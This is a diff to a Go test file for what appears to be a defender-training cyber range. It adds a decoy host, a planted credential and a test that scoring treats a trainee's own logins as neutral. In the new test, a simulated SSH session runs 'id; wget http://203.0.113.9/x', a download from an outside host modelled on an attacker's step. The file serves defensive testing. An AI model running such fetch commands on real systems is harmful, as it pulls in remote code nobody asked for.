@@ -5,6 +5,7 @@ import (
 	"encoding/json"
 	"errors"
 	"net"
+	"slices"
 	"strings"
 	"testing"
 	"time"
@@ -39,11 +40,14 @@ hosts:
       - {port: tcp/80, type: http, site: intranet}
       - {port: tcp/22, type: ssh, accept: [admin]}
     files: [{path: /srv/bait.txt, content: bait, honeytoken: bait}]
+  vault: {network: lan, ip: 10.9.1.40, persona: linux-5, decoy: true, services: [{port: tcp/22, type: ssh, accept: [planted]}]}
   desk: {network: lan, ip: 10.9.1.30, persona: windows-10, user: k.dietz}
   tap: {network: lan, ip: 10.9.1.200, persona: linux-6, roles: [blue], access: [socks5]}
 credentials:
   admin: {user: admin, password: "${vars.pass}"}
+  planted: {user: keeper, password: "planted-${vars.pass}", decoy: true}
 tokens:
+  planted: {kind: credential}
   bait: {kind: file}
 adversary:
   steps:
@@ -112,18 +116,25 @@ func (l *Live) reaches(t *testing.T, from, to string, want bool) bool {
 // logsIn tries a password by SSH.
 func (l *Live) logsIn(t *testing.T, from, password string) bool {
 	t.Helper()
-	c, err := l.lab.hosts[from].net.Dialer().DialContext(t.Context(), "tcp", "10.9.1.10:22")
+	c, err := l.shell(t, from, "10.9.1.10:22", "admin", password)
+	if err == nil {
+		c.Close()
+	}
+	return err == nil
+}
+
+func (l *Live) shell(t *testing.T, from, to, user, password string) (*ssh.Client, error) {
+	t.Helper()
+	c, err := l.lab.hosts[from].net.Dialer().DialContext(t.Context(), "tcp", to)
 	if err != nil {
 		t.Fatal(err)
 	}
-	defer c.Close()
-	conn, _, _, err := ssh.NewClientConn(c, "web", &ssh.ClientConfig{
-		User: "admin", Auth: []ssh.AuthMethod{ssh.Password(password)}, HostKeyCallback: ssh.InsecureIgnoreHostKey(),
-	})
-	if err == nil {
-		conn.Close()
+	conn, chans, reqs, err := ssh.NewClientConn(c, "host", &ssh.ClientConfig{User: user, Auth: []ssh.AuthMethod{ssh.Password(password)}, HostKeyCallback: ssh.InsecureIgnoreHostKey()})
+	if err != nil {
+		c.Close()
+		return nil, err
 	}
-	return err == nil
+	return ssh.NewClient(conn, chans, reqs), nil
 }
 
 func (l *Live) ordered(t *testing.T, kind score.Kind, what string, lift bool) string {
@@ -296,7 +307,7 @@ func TestOrdersThatAreNone(t *testing.T) {
 // Who acts in time prevents: the step that fails, and those that needed it.
 func TestPreventedInTime(t *testing.T) {
 	t.Parallel()
-	for kind, what := range map[score.Kind]string{score.Disable: "admin", score.Block: "198.51.100.7", score.Stop: "web/tcp/22", score.Change: "admin", score.Isolate: "web"} {
+	for kind, what := range map[score.Kind]string{score.Disable: "admin", score.Block: "198.51.100.7", score.Stop: "web/tcp/22", score.Isolate: "web"} {
 		t.Run(string(kind), func(t *testing.T) {
 			t.Parallel()
 			l := town(t, Snapshot{})
@@ -338,18 +349,12 @@ func TestReadFile(t *testing.T) {
 	if l.holds("file") {
 		t.Fatal("it was not read yet")
 	}
-	c, err := l.lab.hosts["tap"].net.Dialer().DialContext(t.Context(), "tcp", "10.9.1.10:22")
+	c, err := l.shell(t, "tap", "10.9.1.10:22", "admin", l.x.sc.Credentials[0].Password)
 	if err != nil {
 		t.Fatal(err)
 	}
-	conn, chans, reqs, err := ssh.NewClientConn(c, "web", &ssh.ClientConfig{
-		User: "admin", Auth: []ssh.AuthMethod{ssh.Password(l.x.sc.Credentials[0].Password)}, HostKeyCallback: ssh.InsecureIgnoreHostKey(),
-	})
-	if err != nil {
-		t.Fatal(err)
-	}
-	defer conn.Close()
-	s, err := ssh.NewClient(conn, chans, reqs).NewSession()
+	defer c.Close()
+	s, err := c.NewSession()
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -363,5 +368,43 @@ func TestReadFile(t *testing.T) {
 	}
 	if got := l.Snapshot().Read; len(got) != 1 || got[0] != "bait" {
 		t.Errorf("kept: %v", got)
+	}
+}
+
+// A trainee who uses the planted credential himself, and types on the decoy, gives
+// nobody away and raises no false alarm.
+func TestOwnLoginsAreNeutral(t *testing.T) {
+	t.Parallel()
+	l := town(t, Snapshot{})
+	c, err := l.shell(t, "tap", "10.9.1.40:22", "keeper", l.x.sc.Credentials[1].Password)
+	if err != nil {
+		t.Fatal(err)
+	}
+	s, err := c.NewSession()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if out, err := s.Output("id; wget http://203.0.113.9/x"); err != nil && len(out) == 0 {
+		t.Fatal(err)
+	}
+	c.Close()
+	var p *Played
+	for until := time.Now().Add(2 * time.Minute); ; time.Sleep(50 * time.Millisecond) {
+		p = l.Played(nil)
+		planted := slices.ContainsFunc(p.Result.Alerts, func(a score.AlertResult) bool { return strings.HasPrefix(a.RuleName, "Planted Credential") })
+		if planted && len(p.Result.Alerts) >= 3 {
+			break
+		}
+		if time.Now().After(until) {
+			t.Fatalf("in two minutes the rules have said no more than %+v", p.Result.Alerts)
+		}
+	}
+	for _, a := range p.Result.Alerts {
+		if a.Verdict != score.Neutral {
+			t.Errorf("%s is %s: %s", a.RuleName, a.Verdict, a.Why)
+		}
+	}
+	if p.Result.FalseAlarms != 0 || p.Result.Metrics.NeutralAlerts != len(p.Result.Alerts) {
+		t.Errorf("%d false alarms, %d neutral ones of %d", p.Result.FalseAlarms, p.Result.Metrics.NeutralAlerts, len(p.Result.Alerts))
 	}
 }
